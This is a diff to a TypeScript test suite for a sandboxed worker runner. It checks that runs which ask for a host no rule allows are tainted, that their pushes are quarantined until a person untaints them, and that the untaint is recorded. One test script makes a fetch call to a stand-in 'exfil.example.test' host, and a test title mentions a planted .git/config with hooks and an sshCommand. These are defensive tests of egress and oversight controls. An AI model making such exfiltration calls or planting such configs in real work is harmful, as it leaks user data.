@@ -20,6 +20,7 @@ interface RunView {
     readonly knowledge_pushes?: ReadonlyArray<Record<string, unknown>>
     readonly channel?: string
     readonly store_snapshot?: string | null
+    readonly tainted?: ReadonlyArray<Record<string, unknown>>
   }
   readonly stdout: string
 }
@@ -110,8 +111,12 @@ node -e 'fetch("http://blocked.example.test/").then((r) => console.log("NODE-FET
     expect(sh(canonical, "show", `${ref}:draft.md`)).toBe("draft")
     expect(sh(canonical, "show", `${ref}^:notes.md`)).toBe("box says hi")
     expect(fs.existsSync(d.file("data", "repos", "alice", run.id))).toBe(false)
+    // Asking for a host no rule allows taints the run: its work stays quarantined for a person.
+    expect(run.record.tainted).toEqual([expect.objectContaining({ reason: "egress_refused", host: "blocked.example.test", detail: "no_rule" })])
     const shown = await d.roster(["runs", "show", run.id])
     expect(shown.stdout).toContain(`repo:      knowledge: unlanded work kept on ${ref}`)
+    expect(shown.stdout).toContain("tainted:   egress_refused (blocked.example.test): no_rule")
+    expect(shown.stdout).toContain(`roster runs untaint ${run.id} --reason`)
   }, 120_000)
 
   it("knowledge_push lands a fast-forward and refuses a protected path; the next briefing names what is not landed", async () => {
@@ -131,13 +136,41 @@ git reset -q --hard HEAD~2 && echo other > other.md && git add other.md && git c
     expect(sh(canonical, "show", "main:policy/rules.md")).toBe("be kind")
     expect(run.record.knowledge_pushes?.map((p) => p.ok)).toEqual([true, false, false])
     expect(run.record.knowledge?.[0]?.quarantined_ref).toBe(`refs/quarantine/run-${run.id}`)
+    // The earlier run was tainted: its work is named apart, held for a person.
     const context = JSON.parse(fs.readFileSync(d.file("data", "runs", "alice", run.id, "context.json"), "utf8")) as { system_prompt: string }
-    expect(context.system_prompt).toContain("Not landed yet from your earlier runs")
+    expect(context.system_prompt).toMatch(/Held for a person's review, because the run that made it was tainted \(refs\/quarantine\/run-[0-9a-f-]+: egress_refused \(blocked\.example\.test\)/)
     // The next run is told about both unlanded runs.
     const next = await d.roster(["worker", "run", "alice", "!true"])
     expect(next.code).toBe(0)
     const briefed = JSON.parse(fs.readFileSync(d.file("data", "runs", "alice", lastRun(d).id, "context.json"), "utf8")) as { system_prompt: string }
-    expect(briefed.system_prompt).toContain(`refs/quarantine/run-${run.id}`)
+    expect(briefed.system_prompt).toContain(`Not landed yet from your earlier runs (fetch them from origin to pick them up): refs/quarantine/run-${run.id}`)
+  }, 120_000)
+
+  it("a tainted run's knowledge_push is refused; a person's untaint lands its quarantined work and is recorded", async () => {
+    const prompt = script(d, "tainted.sh", `${PUSH}cd /pihome/mnt/knowledge || exit 3
+git fetch -q origin && git reset -q --hard origin/main
+echo careful > careful.md && git add careful.md && git commit -qm careful
+node -e 'fetch("https://exfil.example.test/").then(() => console.log("EXFIL reached"), () => console.log("EXFIL refused"))'
+push
+`)
+    const r = await d.roster(["worker", "run", "alice", prompt])
+    expect(r.code, r.stderr).toBe(0)
+    const run = lastRun(d)
+    expect(run.stdout).toContain("EXFIL refused")
+    expect(run.stdout).toMatch(/PUSH 403 .*this run is tainted \(egress_refused \(exfil\.example\.test\)/)
+    const ref = `refs/quarantine/run-${run.id}`
+    expect(sh(canonical, "show", `${ref}:careful.md`)).toBe("careful")
+    expect(() => sh(canonical, "show", "main:careful.md")).toThrow()
+    const untainted = await d.roster(["runs", "untaint", run.id, "--reason", "the refused fetch was harmless; diff reviewed"])
+    expect(untainted.code, untainted.stderr).toBe(0)
+    expect(untainted.stdout).toContain(`knowledge ${ref}: landed on main`)
+    expect(sh(canonical, "show", "main:careful.md")).toBe("careful")
+    const shown = await d.roster(["runs", "show", run.id])
+    expect(shown.stdout).toContain("untainted: ")
+    expect(shown.stdout).toContain("the refused fetch was harmless; diff reviewed")
+    const again = await d.roster(["runs", "untaint", run.id, "--reason", "twice"])
+    expect(again.code).toBe(1)
+    expect(again.stderr).toContain("is not tainted")
   }, 120_000)
 
   it("a .git/config the box plants with an fsmonitor, hooks, a filter and an sshCommand never runs on the host", async () => {
